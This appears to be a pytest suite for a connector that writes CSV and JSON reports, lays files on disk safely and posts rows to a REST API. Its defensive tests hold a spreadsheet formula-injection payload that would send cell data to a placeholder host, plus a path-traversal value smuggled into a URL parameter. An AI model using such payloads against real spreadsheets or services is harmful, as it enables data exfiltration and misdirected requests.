"""What a DUI is told: whole files that a spreadsheet may open, and requests that it takes once."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dui_bridge.connectors.csv import report as csv_report
from dui_bridge.connectors.json import report as json_report
from dui_bridge.connectors.rest import RestReport, Timing, open_report
from dui_bridge.connectors.rest.errors import CredentialsRefused, ReportRefused, Unavailable
from dui_bridge.connectors.wire.laid_file import lay
from dui_bridge.errors import FileUnusable
from dui_bridge.sandbox.dui_rest import Fault
from tests.unit.connectors.rest_world import DECLARED, SECRET, World, settings, world

TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=20)


def lines(data: bytes, encoding: str = "utf-8", separator: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=separator, strict=True))


# --- CSV


@given(st.lists(st.tuples(TEXT, TEXT), max_size=5), st.sampled_from([";", ",", "|", "\t"]))
def test_what_is_written_is_read_again(rows: list[tuple[str, str]], separator: str) -> None:
    encoded = csv_report.encode([{"A": a, "B": b} for a, b in rows], ["A", "B"], "utf-8", separator)

    def as_written(text: str) -> str:
        kept = "".join("?" if (c < " " and c not in "\t\r\n") or c == "\x7f" else c for c in text)
        return f"'{kept}" if kept.startswith(tuple("=+-@\t\r\n＝＋－＠")) else kept

    assert lines(encoded.data, separator=separator) == [["A", "B"], *([as_written(a), as_written(b)] for a, b in rows)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_begins_like_a_formula_is_neutralised(start: str) -> None:
    attack = f'{start}HYPERLINK("http://exemple.invalid/?"&A1)'

    encoded = csv_report.encode([{"MOTIF": attack}], ["MOTIF"], "utf-8", ";")

    assert lines(encoded.data)[1] == [f"'{attack}"]
    assert encoded.neutralised == 1


def test_a_number_is_written_as_it_is() -> None:
    encoded = csv_report.encode([{"V": -5, "D": "2026-11-22T02:00:00+01:00", "N": None}], ["V", "D", "N"], "utf-8", ";")

    assert lines(encoded.data)[1] == ["-5", "2026-11-22T02:00:00+01:00", ""]
    assert encoded.neutralised == 0


def test_what_the_encoding_cannot_write_is_replaced_and_counted() -> None:
    encoded = csv_report.encode([{"M": "Łucja → prête…"}], ["M"], "cp1252", ";")

    assert lines(encoded.data, "cp1252")[1] == ["?ucja ? prête…"]
    assert encoded.replaced == 2


def test_lines_end_as_windows_wants_and_only_what_needs_it_is_quoted() -> None:
    data = csv_report.encode([{"A": "a;b", "B": 'dit "oui"\nsuite'}], ["A", "B"], "cp1252", ";").data

    assert data == b'A;B\r\n"a;b";"dit ""oui""\nsuite"\r\n'


# --- JSON


@given(st.lists(st.dictionaries(st.sampled_from("abc"), TEXT | st.none() | st.integers(), min_size=1), max_size=4))
def test_json_is_read_again_as_an_array_or_line_by_line(rows: list[dict[str, str | int | None]]) -> None:
    array = json.loads(json_report.encode(rows, lines=False).data)
    by_line = [json.loads(line) for line in json_report.encode(rows, lines=True).data.decode().split("\n") if line]

    assert array == by_line
    assert [list(one) for one in array] == [list(row) for row in rows]


def test_a_lone_surrogate_does_not_stop_a_file() -> None:
    encoded = json_report.encode([{"a": "x\udc80"}], lines=True)

    assert (json.loads(encoded.data), encoded.replaced) == ({"a": "x?"}, 1)


# --- the file


def test_a_file_is_laid_whole_and_nothing_else_is_left(tmp_path: Path) -> None:
    assert lay(tmp_path, "R.CSV", b"abc", owner="atlas") == tmp_path / "R.CSV"

    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == {"R.CSV": b"abc"}


def test_a_file_that_is_there_is_never_written_over(tmp_path: Path) -> None:
    names = [
        lay(tmp_path, name, data, owner="atlas").name
        for name, data in (("R.CSV", b"1"), ("R.CSV", b"2"), ("R.CSV", b"3"))
    ]

    assert names == ["R.CSV", "R-2.CSV", "R-3.CSV"]
    assert (tmp_path / "R.CSV").read_bytes() == b"1"


def test_the_remains_of_a_crash_do_not_change_a_file_that_was_laid(tmp_path: Path) -> None:
    # Killed between the two: the file has its name and still the temporary one.
    lay(tmp_path, "R.CSV", b"first", owner="atlas")
    os.link(tmp_path / "R.CSV", tmp_path / ".atlas.part")

    laid = lay(tmp_path, "R.CSV", b"second", owner="atlas")

    assert ((tmp_path / "R.CSV").read_bytes(), laid.read_bytes()) == (b"first", b"second")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["R-2.CSV", "R.CSV"]


def test_what_a_killed_process_left_half_written_is_gone_with_the_next_file(tmp_path: Path) -> None:
    (tmp_path / ".atlas.part").write_bytes(b"half of R-1.C")

    lay(tmp_path, "R-2.CSV", b"whole", owner="atlas")

    assert [path.name for path in tmp_path.iterdir()] == ["R-2.CSV"]


def test_where_links_are_refused_a_file_is_still_not_written_over(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise PermissionError(1, "no links here")

    monkeypatch.setattr(os, "link", refuse)

    assert [lay(tmp_path, "R.CSV", data, owner="atlas").name for data in (b"1", b"2")] == ["R.CSV", "R-2.CSV"]


def test_a_missing_folder_is_not_made(tmp_path: Path) -> None:
    with pytest.raises(FileUnusable) as raised:
        lay(tmp_path / "partage", "R.CSV", b"", owner="atlas")

    assert "does not exist" in raised.value.message()
    assert not (tmp_path / "partage").exists()


# --- the API


@pytest.fixture
def dui(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    monkeypatch.setenv("DUI_ID", "pont")
    monkeypatch.setenv("DUI_SECRET", SECRET)
    with world(tmp_path / "dui", 2) as made:
        yield made


def report(dui: World, path: str) -> RestReport:
    return open_report(settings(DECLARED), dui.server.url, path, timing=Timing(sleep=dui.sleep))


def test_one_row_goes_to_the_address_of_its_usager(dui: World) -> None:
    report(dui, "/residents/{dossier}/retours").post({"etat": "remis", "version": 1}, {"dossier": "r0001"}, "k1")

    assert dui.server.outcomes == [{"etat": "remis", "version": 1}]
    assert dui.asked("POST /residents/r0001/retours")


def test_rows_go_together_as_one_array(dui: World) -> None:
    report(dui, "/retours").post_all([{"a": "1"}, {"a": "2"}], ["k1", "k2"])

    assert dui.server.outcomes == [{"a": "1"}, {"a": "2"}]


def test_a_row_whose_answer_was_lost_is_taken_once(dui: World) -> None:
    told = report(dui, "/retours")
    dui.server.quirks.fail(Fault("/retours", cut=True))
    with pytest.raises(Unavailable):
        told.post({"a": "1"}, {}, "k1")

    told.post({"a": "1"}, {}, "k1")

    assert dui.server.outcomes == [{"a": "1"}]


def test_a_busy_dui_is_not_waited_for(dui: World) -> None:
    dui.server.quirks.fail(Fault("/retours", status=503))

    with pytest.raises(Unavailable):
        report(dui, "/retours").post({"a": "1"}, {}, "k1")

    assert dui.slept == []


@pytest.mark.parametrize("dossier", ["nobody", "", "."])
def test_a_row_that_the_dui_does_not_want_is_refused_without_naming_anybody(dui: World, dossier: str) -> None:
    with pytest.raises(ReportRefused) as raised:
        report(dui, "/residents/{dossier}/retours").post({"a": "1"}, {"dossier": dossier}, "k1")

    assert "POST /residents/{dossier}/retours" in raised.value.message()
    assert "nobody" not in raised.value.message()


def test_a_value_never_leads_to_another_address(dui: World) -> None:
    with pytest.raises(ReportRefused):
        report(dui, "/residents/{dossier}/retours").post({"a": "1"}, {"dossier": "../retours?x="}, "k1")

    assert dui.server.outcomes == []


def test_a_token_that_expired_is_replaced(dui: World) -> None:
    told = report(dui, "/retours")
    told.post({"a": "1"}, {}, "k1")
    dui.server.revoke_tokens()

    told.post({"a": "2"}, {}, "k2")

    assert len(dui.server.outcomes) == 2


def test_a_client_that_is_refused_is_a_matter_of_configuration(dui: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DUI_SECRET", "autre")

    with pytest.raises(CredentialsRefused):
        report(dui, "/retours").post({"a": "1"}, {}, "k1")
